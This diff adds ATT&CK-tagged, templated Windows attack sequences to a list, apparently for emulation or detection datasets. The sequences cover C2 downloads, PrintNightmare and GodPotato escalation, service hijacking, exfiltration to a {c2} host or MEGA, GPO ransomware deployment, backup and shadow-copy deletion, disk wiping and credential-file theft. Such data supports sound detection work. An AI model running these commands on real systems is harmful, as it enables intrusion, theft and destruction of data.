@@ -242,4 +242,88 @@ T1083 :: cmd.exe /c dir C:\\inetpub\\wwwroot
 T1505.003 :: cmd.exe /c echo ^<%@ Page Language="C#" %^> > C:\\inetpub\\wwwroot\\aspnet_client\\{r}.aspx
 T1003.001 :: cmd.exe /c rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Windows\\Temp\\d.bin full
 """),
+("win-printnightmare-lpe", "human", """
+T1007 :: sc query spooler
+T1105 :: certutil -urlcache -f http://{c2}/{dll} {stage}\\{dll}
+T1068 :: powershell -ep bypass -c "Import-Module {stage}\\cve.ps1; Invoke-Nightmare -DLL {stage}\\{dll}"
+T1033 :: whoami
+T1098 :: net localgroup administrators
+"""),
+("win-potato-lpe", "human", """
+T1033 :: whoami /priv
+T1105 :: powershell -c "iwr http://{c2}/GodPotato.exe -OutFile {stage}\\gp.exe"
+T1134.001 :: {stage}\\gp.exe -cmd "cmd /c whoami"
+T1134.001 :: {stage}\\gp.exe -cmd "net user {newuser} {pw} /add"
+T1098 :: net localgroup administrators {newuser} /add
+"""),
+("win-service-binpath-hijack", "human", """
+T1007 :: sc qc «VulnSvc|UpdaterSvc|BackupAgent»
+T1574.011 :: sc config «VulnSvc|UpdaterSvc|BackupAgent» binpath= "cmd /c net localgroup administrators {user} /add"
+T1574.011 :: sc stop «VulnSvc|UpdaterSvc|BackupAgent»
+T1574.011 :: sc start «VulnSvc|UpdaterSvc|BackupAgent»
+T1069.001 :: net localgroup administrators
+"""),
+("win-exfil-mega-cmd", "human", """
+T1083 :: dir /s /b \\\\{target}\\{share}\\*.xlsx
+T1560.001 :: 7z.exe a -mx9 -p{pw} {stage}\\d.7z \\\\{target}\\{share}
+T1567.002 :: mega-put {stage}\\d.7z /{r}/
+T1070.004 :: del {stage}\\d.7z
+"""),
+("win-exfil-ps-post", "human", """
+T1119 :: Get-ChildItem C:\\Users\\{user}\\Documents -Include *.docx,*.pdf -Recurse | Copy-Item -Destination {stage}\\c
+T1560.001 :: Compress-Archive -Path {stage}\\c -DestinationPath {stage}\\c.zip
+T1041 :: Invoke-RestMethod -Uri http://{c2}/u -Method Post -InFile {stage}\\c.zip
+T1070.004 :: Remove-Item {stage}\\c,{stage}\\c.zip -Recurse -Force
+"""),
+("win-exfil-bitsadmin-upload", "human", """
+T1560.001 :: makecab {stage}\\ad.txt {stage}\\ad.cab
+T1048.003 :: bitsadmin /transfer up /upload /priority normal http://{c2}/ad.cab {stage}\\ad.cab
+T1070.004 :: del {stage}\\ad.cab {stage}\\ad.txt
+"""),
+("win-ransom-gpo-deploy", "human", """
+T1484.001 :: New-GPO -Name "Windows Update Policy" | New-GPLink -Target "DC={dom},DC=local"
+T1484.001 :: Set-GPRegistryValue -Name "Windows Update Policy" -Key "HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce" -ValueName upd -Type String -Value "\\\\{dc}\\NETLOGON\\{exe}"
+T1570 :: copy {stage}\\{exe} \\\\{dc}\\NETLOGON\\{exe}
+T1486 :: Invoke-GPUpdate -Computer {target} -Force
+"""),
+("win-ransom-stop-backup-av", "human", """
+T1489 :: net stop "Veeam Backup Service" /y
+T1489 :: net stop "Sophos Agent" /y
+T1489 :: taskkill /F /IM sqlservr.exe
+T1490 :: vssadmin resize shadowstorage /for=c: /on=c: /maxsize=401MB
+T1490 :: wbadmin delete systemstatebackup -keepversions:0
+T1486 :: {stage}\\{exe} --encrypt C:\\ D:\\
+"""),
+("win-wipe-and-reboot", "human", """
+T1485 :: cipher /w:C:\\Users
+T1561.001 :: format D: /FS:NTFS /Q /Y
+T1529 :: shutdown /r /t 0 /f
+"""),
+("win-account-lockout-impact", "human", """
+T1531 :: net user Administrator {pw}
+T1531 :: net user {user} /active:no /domain
+T1531 :: Get-ADUser -Filter * | Set-ADAccountPassword -NewPassword (ConvertTo-SecureString "{pw}" -AsPlainText -Force) -Reset
+"""),
+("win-persist-startup-folder", "human", """
+T1105 :: powershell -c "iwr http://{c2}/{exe} -OutFile '$env:APPDATA\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\{exe}'"
+T1547.001 :: dir "%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup"
+T1564.001 :: attrib +h +s "%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\{exe}"
+"""),
+("win-disc-quick-triage-ps", "human", """
+T1033 :: $env:USERNAME
+T1082 :: Get-ComputerInfo | Select-Object CsName,OsName,OsVersion
+T1087.001 :: Get-LocalUser
+T1069.001 :: Get-LocalGroupMember Administrators
+T1518.001 :: Get-CimInstance -Namespace root/SecurityCenter2 -ClassName AntivirusProduct
+"""),
+("win-token-runas-netonly", "human", """
+T1134.002 :: runas /netonly /user:{dom}\\{user} cmd.exe
+T1021.002 :: dir \\\\{target}\\C$
+T1039 :: copy \\\\{target}\\{share}\\*.kdbx {stage}\\
+"""),
+("win-c2-cloudflared", "human", """
+T1105 :: powershell -c "iwr https://github.example.com/cloudflared-windows-amd64.exe -OutFile {stage}\\cf.exe"
+T1572 :: {stage}\\cf.exe tunnel --url rdp://localhost:3389
+T1049,T1049 :: netstat -ano | findstr :3389
+"""),
 ]
